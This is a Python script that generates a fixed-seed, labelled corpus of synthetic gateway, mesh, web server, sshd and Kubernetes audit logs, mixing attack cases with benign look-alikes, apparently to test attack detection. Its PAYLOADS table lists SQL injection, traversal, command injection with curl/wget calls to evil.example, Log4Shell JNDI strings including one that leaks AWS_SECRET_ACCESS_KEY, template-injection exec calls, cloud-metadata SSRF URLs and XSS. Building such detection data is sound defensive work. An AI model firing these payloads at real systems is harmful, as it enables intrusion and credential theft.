"""Makes cases.ndjson.gz: what gateways, meshes, web servers, programs and Kubernetes log, each case an attack or none.

    python3 corpus/observe/make.py

The seed is fixed: the same file comes of it on every machine. README.md says what this is and what it is not.
"""

import datetime
import gzip
import json
import pathlib
import random
import urllib.parse

BEGIN = 1_800_000_000  # 2027-01-15T08:00:00Z
SERVICES = ["web", "accounts", "payment", "ledger", "users", "notify"]
EDGES = [("web", "accounts"), ("web", "payment"), ("payment", "accounts"), ("payment", "ledger"), ("accounts", "users"), ("ledger", "notify")]
PEOPLE = [f"{name}{n}" for n in range(12) for name in ("ana", "ben", "cem", "dua", "eva", "fil", "gus", "hua")]
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "okhttp/4.12.0",
    "python-requests/2.32.3",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
]
MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()

draw = random.Random(20270115)


def clock(s):
    return datetime.datetime.fromtimestamp(BEGIN + s, datetime.timezone.utc)


def rfc3339(s):
    return clock(s).strftime("%Y-%m-%dT%H:%M:%S.") + f"{int(s * 1000) % 1000:03d}Z"


def address(kind="public"):
    if kind == "public":
        return f"{draw.choice(['198.51.100', '203.0.113', '192.0.2'])}.{draw.randrange(1, 255)}"
    return f"10.{draw.randrange(1, 200)}.{draw.randrange(1, 255)}.{draw.randrange(1, 255)}"


# --- one request, in the format of each product ---------------------------------------------------------------------------------------


def combined(it):
    """nginx and Apache, by syslog."""
    at = clock(it["s"])
    stamp = f"{at.day:02d}/{MONTHS[at.month - 1]}/{at.year}:{at:%H:%M:%S} +0000"
    line = f'{it["client"]} - {it["user"] or "-"} [{stamp}] "{it["method"]} {it["target"]} HTTP/1.1" {it["status"]} {it["sent"]} "-" "{it["agent"]}"'
    return "syslog", f"<190>1 {rfc3339(it['s'])} edge-1 {it['to']} - - - {line}"


def nginx_json(it):
    return "lines", json.dumps({
        "time_iso8601": rfc3339(it["s"]), "remote_addr": it["client"], "remote_user": it["user"] or "", "request": f'{it["method"]} {it["target"]} HTTP/2.0',
        "status": str(it["status"]), "body_bytes_sent": str(it["sent"]), "http_referer": "", "http_user_agent": it["agent"], "host": it["to"],
    })


def envoy_text(it):
    """Envoy's default format, by syslog."""
    line = (f'[{rfc3339(it["s"])}] "{it["method"]} {it["target"]} HTTP/2" {it["status"]} - 0 {it["sent"]} 12 11 "{it["client"]}" "{it["agent"]}" '
            f'"{draw.getrandbits(128):032x}" "{it["to"]}.bank.example" "10.0.3.7:8080"')
    return "syslog", f"<190>1 {rfc3339(it['s'])} edge-2 envoy - - - {line}"


def envoy_json(it):
    """Istio's and Envoy's JSON, with the caller's name where the mesh knows it."""
    fields = {
        "start_time": rfc3339(it["s"]), "method": it["method"], "path": it["target"], "protocol": "HTTP/2", "response_code": it["status"], "response_flags": "-",
        "bytes_received": 0, "bytes_sent": it["sent"], "duration": 12, "user_agent": it["agent"], "authority": f'{it["to"]}.bank:80',
        "upstream_cluster": f'outbound|80||{it["to"]}.bank.svc.cluster.local', "downstream_remote_address": f'{address("inside")}:41234',
        "x_forwarded_for": it["client"],
    }
    if it["from"]:
        fields["downstream_peer_uri_san"] = f'spiffe://cluster.local/ns/bank/sa/{it["from"]}'
    if it["user"]:
        fields["user.name"] = it["user"]
    return "lines", json.dumps(fields)


def istio_text(it):
    line = (f'[{rfc3339(it["s"])}] "{it["method"]} {it["target"]} HTTP/1.1" {it["status"]} - via_upstream - "-" 0 {it["sent"]} 4 4 "{it["client"]}" "{it["agent"]}" '
            f'"{draw.getrandbits(128):032x}" "{it["to"]}:80" "10.44.1.27:80" outbound|80||{it["to"]}.bank.svc.cluster.local 10.44.1.23:37652 10.0.45.184:80 '
            f'10.44.1.23:46520 - default')
    return "syslog", f"<190>1 {rfc3339(it['s'])} node-3 istio-proxy - - - {line}"


def linkerd(it):
    fields = {
        "client.addr": f'{it["client"]}:41234', "host": f'{it["to"]}.bank.svc.cluster.local', "method": it["method"], "processing_ns": "41000", "request_bytes": "",
        "response_bytes": str(it["sent"]), "status": it["status"], "timestamp": rfc3339(it["s"]), "total_ns": "4100000", "trace_id": "",
        "uri": f'http://{it["to"]}.bank.svc.cluster.local{it["target"]}', "user_agent": it["agent"], "version": "HTTP/2.0",
    }
    if it["from"]:
        fields["client.id"] = f'{it["from"]}.bank.serviceaccount.identity.linkerd.cluster.local'
    return "lines", json.dumps(fields)


def otlp(it):
    """A program's own log by OpenTelemetry's names."""
    path, _, query = it["target"].partition("?")
    attributes = {"http.request.method": it["method"], "url.path": path, "http.response.status_code": it["status"], "client.address": it["client"],
                  "user_agent.original": it["agent"], "http.response.body.size": it["sent"]}
    if query:
        attributes["url.query"] = query
    if it["user"]:
        attributes["enduser.id"] = it["user"]
    if it["from"]:
        attributes["source.service"] = it["from"]
    value = lambda v: {"intValue": str(v)} if isinstance(v, int) else {"stringValue": v}
    record = {"timeUnixNano": str(int((BEGIN + it["s"]) * 1e9)), "severityNumber": 9, "body": {"stringValue": "request"},
              "attributes": [{"key": k, "value": value(v)} for k, v in attributes.items()]}
    resource = {"attributes": [{"key": "service.name", "value": {"stringValue": it["to"]}}]}
    return "otlp", json.dumps({"resourceLogs": [{"resource": resource, "scopeLogs": [{"scope": {}, "logRecords": [record]}]}]})


FORMATS = [combined, nginx_json, envoy_text, envoy_json, istio_text, linkerd, otlp]
WITH_USER = [combined, nginx_json, envoy_json, otlp]
WITH_CALLER = [envoy_json, linkerd, otlp]


def request(s, target, status, to="web", method="GET", client=None, user=None, sent=None, agent=None, caller=None):
    return {"s": s, "target": target, "status": status, "to": to, "method": method, "client": client or address(), "user": user, "from": caller,
            "sent": draw.randrange(200, 9000) if sent is None else sent, "agent": agent or draw.choice(AGENTS[:4])}


def line(s, form, *args, **named):
    door, text = form(request(s, *args, **named))
    return {"s": round(s, 3), "door": door, "text": text}


def sshd(s, text):
    return {"s": round(s, 3), "door": "syslog", "text": f"<38>1 {rfc3339(s)} bastion sshd 812 - - {text}"}


def kubernetes(s, user, verb, resource="", namespace="bank", name="", sub="", code=200, path=None, role=None, stage="ResponseComplete", groups=None):
    uri = path or f"/api/v1/namespaces/{namespace}/{resource}/{name}" + (f"/{sub}" if sub else "")
    item = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse" if role else "Metadata", "auditID": f"{draw.getrandbits(128):032x}",
            "stage": stage, "requestURI": uri, "verb": verb, "user": {"username": user, "groups": groups or ["system:authenticated"]},
            "sourceIPs": [address("inside")], "userAgent": "kubectl/v1.31", "responseStatus": {"metadata": {}, "code": code},
            "requestReceivedTimestamp": rfc3339(s), "stageTimestamp": rfc3339(s)}
    if resource:
        item["objectRef"] = {"resource": resource, "namespace": namespace, "name": name, "apiVersion": "v1"}
        if sub:
            item["objectRef"]["subresource"] = sub
    if role:
        item["requestObject"] = {"kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", "name": role}, "subjects": [{"kind": "User", "name": "x"}]}
    return {"s": round(s, 3), "door": "kubernetes", "text": json.dumps({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "items": [item]})}


cases = []


def case(label, technique, lines):
    cases.append({"case": f"{technique}-{sum(it['technique'] == technique for it in cases):03d}", "label": label, "technique": technique, "lines": lines})


def attack(technique, lines):
    case("attack", technique, lines)


# --- attacks --------------------------------------------------------------------------------------------------------------------------


def sign_ins():
    """OWASP OAT-007, OAT-008; ATT&CK T1110.001, .003, .004."""
    doors = [("/login", 401), ("/api/v1/login", 401), ("/oauth/token", 400), ("/session", 403), ("/auth/realms/bank/token", 401)]
    for n, form in enumerate(FORMATS):
        path, status = doors[n % len(doors)]
        bot, user = address(), draw.choice(PEOPLE)
        attack("sign_ins", [line(i * 2, form, path, status, to="users", method="POST", client=bot, user=user if form in WITH_USER else None) for i in range(45)])
        bot = address()
        attack("sign_ins", [line(i * 4, form, path, 200 if i == 31 else status, to="users", method="POST", client=bot,
                                 user=draw.choice(PEOPLE) if form in WITH_USER else None) for i in range(50)])
        # One try for each user, from a new address each time.
        attack("sign_ins", [line(i * 4, form, path, status, to="users", method="POST", client=address(),
                                 user=draw.choice(PEOPLE) if form in WITH_USER else None) for i in range(70)])
    for form in WITH_USER:
        victim = draw.choice(PEOPLE)
        attack("sign_ins", [line(i * 7, form, "/login", 401, to="users", method="POST", client=address(), user=victim) for i in range(36)])
    for word in ("password", "publickey"):
        bot = address()
        attack("sign_ins", [sshd(i * 3, f"Failed {word} for {draw.choice(['root', 'admin', 'invalid user oracle', 'invalid user test'])} from {bot} port {40000 + i} ssh2")
                            for i in range(40)])
    # Slowly: a password a minute from one address; and eight a minute, each from another address.
    bot = address()
    attack("sign_ins", [line(i * 60, combined, "/login", 401, to="users", method="POST", client=bot) for i in range(30)])
    attack("sign_ins", [line(i * 90, nginx_json, "/login", 401, to="users", method="POST", client=address(), user=draw.choice(PEOPLE)) for i in range(20)])


def ids():
    """OWASP API1:2023 (broken object level authorization); CWE-639."""
    for n, form in enumerate(FORMATS):
        who, eve = address(), draw.choice(PEOPLE) if form in WITH_USER else None
        start = draw.randrange(1000, 90000)
        attack("ids", [line(i * 3, form, f"/accounts/{start + i}", draw.choice([403, 404, 404]), to="accounts", client=who, user=eve) for i in range(40)])
        who = address()
        attack("ids", [line(i * 5, form, f"/accounts/acc-{start + i:06d}/balance", 200, to="accounts", client=who, user=eve) for i in range(90)])
        who = address()
        attack("ids", [line(i * 6, form, f"/users/{draw.getrandbits(32):08x}-{draw.getrandbits(16):04x}-4{draw.getrandbits(12):03x}-a{draw.getrandbits(12):03x}-{draw.getrandbits(48):012x}",
                            404, to="users", client=who, user=eve) for i in range(30)])
    # A few only, and every other one many apart.
    who = address()
    attack("ids", [line(i * 10, combined, f"/accounts/{100 + i}", 403, to="accounts", client=who) for i in range(6)])
    attack("ids", [line(i * 3, combined, f"/orders/{draw.randrange(10**7)}", 200, to="payment", client=who) for i in range(60)])


def paths():
    """OWASP WSTG-CONF-05, WSTG-INFO-05; ATT&CK T1595.003."""
    words = ["admin", "backup", "test", "old", "dev", "api", "v2", "private", "upload", "files", "tmp", "config", "db", "sql", "status", "health2", "debug", "portal",
             "staging", "internal", "console", "metrics2", "secret", "keys", "users2", "swagger", "docs", "beta", "shell", "cgi", "include", "lib", "logs", "panel"]
    left = ["/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/.aws/credentials", "/phpmyadmin/index.php", "/actuator/env", "/actuator/heapdump", "/server-status",
            "/cgi-bin/test.cgi", "/.svn/entries", "/backup.zip", "/dump.sql", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/.DS_Store", "/manager/html"]
    for form in FORMATS:
        bot = address()
        attack("paths", [line(i * 2, form, f"/{word}/", draw.choice([404, 404, 403]) if i % 3 else 404, client=bot) for i, word in enumerate(words * 2)])
        bot = address()
        attack("paths", [line(i * 4, form, path, 404, client=bot, agent="Mozilla/5.0 zgrab/0.x") for i, path in enumerate(draw.sample(left, 12))])
        bot = address()
        attack("paths", [line(i * 1.5, form, f"/{draw.choice(words)}.{draw.choice(['php', 'bak', 'old', 'zip', 'asp', 'jsp'])}", 404, client=bot) for i in range(80)])
    attack("paths", [line(i * 5, combined, f"/{word}", 404, client=address()) for i, word in enumerate(words)])  # each from another address


PAYLOADS = {
    # CWE-89, OWASP WSTG-INPV-05
    "sql": ["' OR '1'='1", "1' AND SLEEP(5)-- -", "1 UNION SELECT username,password FROM users", "admin'--", "1; DROP TABLE accounts", "1' ORDER BY 4--",
            "-1 union/**/all/**/select null,null,version()", "1 AND 1=1", "'; WAITFOR DELAY '0:0:5'--", "1' AND extractvalue(1,concat(0x7e,version()))-- ",
            "x' OR 1=1#", "1) OR (1=1", "' || (select pg_sleep(10)) || '", "1 AND (SELECT 1 FROM information_schema.tables LIMIT 1)=1", "' or ''='",
            "1%df' procedure analyse()", "1 rlike (select 1)", '" or "a"="a'],
    # CWE-22, WSTG-ATHZ-01
    "traversal": ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//etc/passwd", "%2e%2e/%2e%2e/%2e%2e/windows/win.ini", "..\\..\\..\\boot.ini",
                  "/etc/passwd%00.png", "..;/..;/manager/html", "file/../../secret.yaml", "%252e%252e%252f%252e%252e%252fapp.conf", "..%c0%af..%c0%afetc/hosts",
                  "/proc/self/environ", "/var/www/../../etc/hosts"],
    # CWE-78, WSTG-INPV-12
    "command": ["127.0.0.1;id", "x|whoami", "x`id`", "$(curl http://evil.example/x)", "1&&cat /etc/hosts", "; wget http://evil.example/s.sh", "|| ping -c 10 evil.example",
                "x;nslookup evil.example", "\nid", "a;sleep 10", "x|/bin/ls -al", "${IFS}&&{echo,a}"],
    # CWE-917, CVE-2021-44228, CWE-1336
    "expression": ["${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
                   "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example}", "{{7*7}}", "${7*7}", "{{config.items()}}", "<%= 7*7 %>",
                   "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}", "#{7*7}", "{{''.__class__.__mro__}}", "${T(java.lang.Runtime).getRuntime().exec('id')}"],
    # CWE-918, WSTG-INPV-19
    "inside": ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://localhost:8080/admin", "http://127.0.0.1:6379/", "gopher://127.0.0.1:6379/_INFO",
               "file:///etc/hostname", "http://metadata.google.internal/computeMetadata/v1/", "http://10.0.0.5:9200/_cat", "http://[::1]:80/", "http://2130706433/",
               "http://0x7f000001/", "dict://127.0.0.1:11211/stat", "http://ledger.bank.svc/entries", "http://127.1/"],
    # CWE-79, WSTG-INPV-01
    "script": ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(document.cookie)", "<svg/onload=alert(1)>", "'><body onload=alert(1)>",
               "<iframe src=javascript:alert(1)>", "<scr<script>ipt>alert(1)</script>", "<details open ontoggle=alert(1)>"],
}


def probes():
    for kind, payloads in PAYLOADS.items():
        for n, payload in enumerate(payloads):
            form = FORMATS[(n + len(kind)) % len(FORMATS)]
            name = {"inside": "url", "traversal": "file", "command": "host"}.get(kind, "q")
            # As a browser, a tool that escapes all of it, or one that escapes twice would send it.
            quoted = urllib.parse.quote(payload, safe=draw.choice(["/:=()*", ""]) if "%" not in payload else "/:=()*%")
            if n % 5 == 4 and "%" not in payload:
                quoted = urllib.parse.quote(quoted, safe="")
            target = f"/static/{quoted}" if kind == "traversal" and n % 2 else f"/search?{name}={quoted}&page=1"
            attack("probes", [line(0, form, target, draw.choice([200, 400, 403, 404, 500]), to=draw.choice(SERVICES[:4]))])
    for form in (combined, envoy_text, envoy_json, otlp):
        attack("probes", [line(0, form, "/", 200, agent="${jndi:ldap://evil.example/${env:USER}}")])
    for operator in ("$ne", "$gt", "$regex"):
        attack("probes", [line(0, nginx_json, f"/login?user[{operator}]=a&password[{operator}]=a", 200, to="users")])


def undeclared():
    """ATT&CK T1021, T1210: from one service to the next."""
    wrong = [("web", "ledger"), ("notify", "users"), ("users", "payment"), ("ledger", "accounts"), ("notify", "ledger"), ("web", "users")]
    for n, (caller, callee) in enumerate(wrong * 2):
        form = WITH_CALLER[n % 3]
        attack("undeclared", [line(i * 5, form, f"/internal/{i}", draw.choice([200, 404]), to=callee, client=address("inside"), caller=caller) for i in range(1 + n % 3)])


def large():
    """ATT&CK T1030, T1041, T1567."""
    for n, form in enumerate(FORMATS):
        who = address()
        attack("large", [line(i * 6, form, f"/export/part{i}.csv", 200, to="ledger", client=who, sent=12_000_000) for i in range(40)])
    attack("large", [line(0, envoy_json, "/export/all", 200, to="ledger", client=address(), sent=900_000_000)])
    attack("large", [line(i * 6, combined, f"/export/part{i}.csv", 200, to="ledger", client=address(), sent=12_000_000) for i in range(40)])  # shared out


def cluster():
    """ATT&CK for containers: T1552.007, T1609, T1078.001, T1098, T1528; the threat matrix for Kubernetes."""
    for n, who in enumerate(["eve", "system:serviceaccount:bank:web", "oidc:contractor", "system:serviceaccount:default:default", "mallory", "ci-bot"]):
        attack("secrets", [kubernetes(i, who, "get", "secrets", draw.choice(["bank", "payments"]), f"db-{i}") for i in range(1 + n)])
        attack("secrets", [kubernetes(0, who, "list", "secrets", "", "", path="/api/v1/secrets")])
    for n, (verb, sub) in enumerate([("create", "exec"), ("get", "exec"), ("create", "attach"), ("create", "portforward"), ("get", "portforward"), ("patch", "ephemeralcontainers")]):
        attack("pods", [kubernetes(0, draw.choice(["eve", "system:serviceaccount:bank:web"]), verb, "pods", "bank", f"ledger-{n}", sub, code=101 if verb == "get" else 201)])
        attack("pods", [kubernetes(0, "mallory", verb, "pods", "kube-system", f"etcd-{n}", sub, code=403)])
    attack("pods", [kubernetes(0, "mallory", "get", "nodes", "", "node-1", "proxy")])
    for n, (verb, kind, role) in enumerate([("create", "clusterrolebindings", "cluster-admin"), ("patch", "clusterrolebindings", "cluster-admin"), ("create", "rolebindings", "admin"),
                                            ("create", "clusterrolebindings", None), ("update", "rolebindings", "cluster-admin"), ("create", "rolebindings", "edit")]):
        attack("admins", [kubernetes(0, draw.choice(["eve", "system:serviceaccount:bank:ci"]), verb, kind, "bank", f"b-{n}", role=role, code=201)])
    attack("admins", [kubernetes(0, "eve", "create", "rolebindings", "bank", "quiet", code=201)])  # a role that the record does not name
    attack("admins", [kubernetes(0, "eve", "patch", "clusterroles", "", "cluster-admin")])
    for n, (path, code) in enumerate([("/api/v1/pods", 200), ("/api/v1/namespaces/bank/secrets", 200), ("/apis", 403), ("/api/v1/nodes", 403), ("/logs/", 403), ("/metrics", 200)]):
        attack("anonymous", [kubernetes(0, "system:anonymous", "get", path=path, code=code, groups=["system:unauthenticated"])])
    for who in ("eve", "system:serviceaccount:bank:web", "oidc:contractor", "ci-bot"):
        attack("tokens", [kubernetes(i * 4, who, "create", "serviceaccounts", draw.choice(["bank", "kube-system"]), f"sa-{i}", "token", code=201) for i in range(30)])
    attack("tokens", [kubernetes(0, "eve", "create", "serviceaccounts", "kube-system", "admin", "token", code=201)])  # one is enough for whoever knows which


# --- and what is none -----------------------------------------------------------------------------------------------------------------

QUERIES = [
    "q=winter+shoes", "q=O%27Neill+jacket&page=2", "q=select+a+gift+from+our+shop", "q=drop+table+lamps", "q=union+jack+mug", "q=rock+%26+roll", "q=5+%3E+3",
    "q=C%2B%2B+book", "sort=price&order=desc", "from=2027-01-01&to=2027-01-31", "filter=status%3Aopen+and+owner%3Ame", "q=%22exact+phrase%22", "lang=de&q=M%C3%BCller",
    "redirect_uri=https%3A%2F%2Fapp.bank.example%2Fcallback&state=af0ifjsldkj&scope=openid+profile", "next=%2Faccounts%2F17%3Ftab%3Dcards", "url=https%3A%2F%2Fexample.org%2Flogo.png",
    "callback=jQuery3310&_=1736928000", "q=1+or+2+rooms", "token_type=bearer", "utm_source=news&utm_campaign=spring%7Csale", "email=ana%2Btest%40example.org",
    "q=cat+food%3B+dog+food", "expr=a%2Bb", "ids=17,18,19", "q=l%27%C3%A9t%C3%A9+et+l%27hiver", "q=don%27t+stop", "path=docs%2Fmanual%2Findex.html", "v=1.2.3-rc.1", "price=$5-$10", "t={name}",
]


def visits(count):
    """Somebody looks at what is theirs."""
    for n in range(count):
        form, who = FORMATS[n % len(FORMATS)], address()
        user = draw.choice(PEOPLE) if form in WITH_USER else None
        own = draw.sample(range(10_000, 99_999), 3)
        lines, s = [], 0.0
        for _ in range(draw.randrange(4, 18)):
            s += draw.expovariate(1 / 6)
            target, to = draw.choice([("/", "web"), ("/style.css", "web"), ("/api/v1/rates", "web"), (f"/accounts/{draw.choice(own)}", "accounts"), (f"/accounts/{draw.choice(own)}/balance", "accounts"),
                                      ("/payments", "payment"), (f"/search?{draw.choice(QUERIES)}", "web"), ("/app.js?v=3", "web")])
            status = draw.choices([200, 304, 302, 404, 500], [90, 5, 3, 1.5, 0.5])[0]
            lines.append(line(s, form, target, status, to=to, client=who, user=user, agent=draw.choice(AGENTS)))
        case("benign", "visits", lines)


def mistyped(count):
    """A password wrong once to four times, then right."""
    for n in range(count):
        form, who = FORMATS[n % len(FORMATS)], address()
        user = draw.choice(PEOPLE) if form in WITH_USER else None
        wrong = draw.randrange(1, 5)
        case("benign", "mistyped", [line(i * 9, form, "/login", 401 if i < wrong else 302, to="users", method="POST", client=who, user=user) for i in range(wrong + 1)])


def calls(count):
    """Services that call each other as declared."""
    for n in range(count):
        caller, callee = EDGES[n % len(EDGES)]
        form = WITH_CALLER[n % len(WITH_CALLER)]
        inside = address("inside")
        case("benign", "calls", [line(i * 1.5, form, f"/v1/things/{draw.randrange(10**6)}", draw.choices([200, 404, 503], [95, 4, 1])[0], to=callee, client=inside, caller=caller)
                                 for i in range(draw.randrange(5, 25))])


def odd():
    """What looks odd and is none: expired tokens of an app, a page with broken links, a crawler, a large download, a job that goes through many, operators at work."""
    for n in range(14):
        form, who = FORMATS[n % len(FORMATS)], address()
        case("benign", "odd", [line(i * 2, form, "/api/v1/me", 401 if i % 4 == 0 else 200, to="web", client=who) for i in range(12)])
        who = address()
        case("benign", "odd", [line(i * 0.2, form, f"/img/{word}.png", 404, client=who) for i, word in enumerate("logo hero icon foot head side menu card".split())])
        who = address()
        case("benign", "odd", [line(i * 8, form, f"/blog/{word}", draw.choice([200, 200, 200, 404]), client=who, agent=AGENTS[4])
                               for i, word in enumerate("ten twenty first second third about contact press jobs terms".split())])
        case("benign", "odd", [line(0, form, "/statements/2026.pdf", 200, to="accounts", client=address(), sent=draw.randrange(5, 60) * 1_000_000)])
        case("benign", "odd", [line(i * 10, form, path, 200, to=to, client="10.1.0.9", agent="kube-probe/1.31", sent=2)
                               for i, (path, to) in enumerate([("/healthz", "web"), ("/readyz", "accounts"), ("/livez", "ledger")] * 3)])
    for n in range(12):
        inside = address("inside")
        case("benign", "odd", [line(i * 2, WITH_CALLER[n % 3], f"/v1/orders/{draw.randrange(10**8)}", 200, to="payment", client=inside, caller="web") for i in range(60)])
    # Two that nobody can tell from attacks by their logs: a nightly job that counts through accounts, and a developer's redirect.
    case("benign", "odd", [line(i * 2, otlp, f"/accounts/{5000 + i}", 200, to="accounts", client="10.9.9.9", user="nightly", caller="payment") for i in range(80)])
    case("benign", "odd", [line(0, combined, "/oauth/authorize?redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback&state=x", 302, to="users")])


def operators():
    """A cluster at work."""
    for n in range(20):
        for who, verb, kind, name in [("system:serviceaccount:bank:accounts", "get", "secrets", "accounts-db"), ("system:serviceaccount:bank:cert-manager", "list", "secrets", "")]:
            case("benign", "cluster", [kubernetes(0, who, verb, kind, "bank", name)])
        case("benign", "cluster", [kubernetes(0, "system:node:node-1", "create", "serviceaccounts", "bank", f"sa-{n}", "token", code=201)])
        case("benign", "cluster", [kubernetes(0, "system:kube-scheduler", "create", "pods", "bank", f"web-{n}", "binding", code=201)])
        case("benign", "cluster", [kubernetes(i, draw.choice(["ana1", "ben2"]), draw.choice(["get", "list"]), draw.choice(["pods", "services", "configmaps"]), "bank", "", code=200) for i in range(4)])
        case("benign", "cluster", [kubernetes(0, "ana1", "get", "pods", "bank", f"web-{n}", "log")])
        case("benign", "cluster", [kubernetes(0, "system:anonymous", "get", path=draw.choice(["/healthz", "/livez?verbose", "/readyz", "/version"]), groups=["system:unauthenticated"])])
        case("benign", "cluster", [kubernetes(0, "deployer", "create", "rolebindings", "bank", f"team-{n}", role="view", code=201)])
        case("benign", "cluster", [kubernetes(i * 20, f"deployer-{n % 5}", "create", "serviceaccounts", "bank", "ci", "token", code=201) for i in range(2)])
        case("benign", "cluster", [kubernetes(0, "deployer", "patch", "deployments", "bank", "web", code=200)])


def main():
    for make in (sign_ins, ids, paths, probes, undeclared, large, cluster):
        make()
    visits(420)
    mistyped(84)
    calls(120)
    odd()
    operators()
    text = "".join(json.dumps(it, separators=(",", ":")) + "\n" for it in cases)
    # Without a time in it, so that the same text packs to the same file.
    pathlib.Path(__file__).with_name("cases.ndjson.gz").write_bytes(gzip.compress(text.encode(), 9, mtime=0))
    of = lambda label: [it for it in cases if it["label"] == label]
    for label in ("attack", "benign"):
        print(f"{label}: {len(of(label))} cases, {sum(len(it['lines']) for it in of(label))} lines")


if __name__ == "__main__":
    main()
